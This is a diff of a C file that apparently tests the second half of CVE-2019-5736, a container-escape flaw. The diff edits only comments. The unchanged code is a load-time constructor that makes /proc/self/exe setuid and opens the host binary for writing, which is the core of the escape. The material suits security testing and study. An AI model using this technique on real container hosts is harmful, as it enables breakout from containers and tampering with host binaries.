@@ -1,7 +1,7 @@
 /*
  * The second half of CVE-2019-5736: the tool is asked to run /proc/self/exe, so it becomes the
  * contained program itself, readable and with the attacker's library loaded. From there its
- * file on the host can be held and changed.
+ * file on the host can be opened and changed.
  */
 #include <errno.h>
 #include <fcntl.h>
@@ -24,11 +24,11 @@ __attribute__((constructor)) static void on_load(void)
     char exe[256] = "";
     ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
     if (n < 0 || !strstr(exe, "victim-tool"))
-        return; /* some other program: a shell on the way */
+        return; /* another program, such as a shell in between */
     try_it("reexec-chmod", chmod("/proc/self/exe", 04711));
     int fd = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
     if (fd < 0 && errno == ETXTBSY)
-        fd = 0; /* allowed, but for the moment */
+        fd = 0; /* allowed, except at this moment */
     try_it("reexec-write", fd);
     _exit(0);
 }
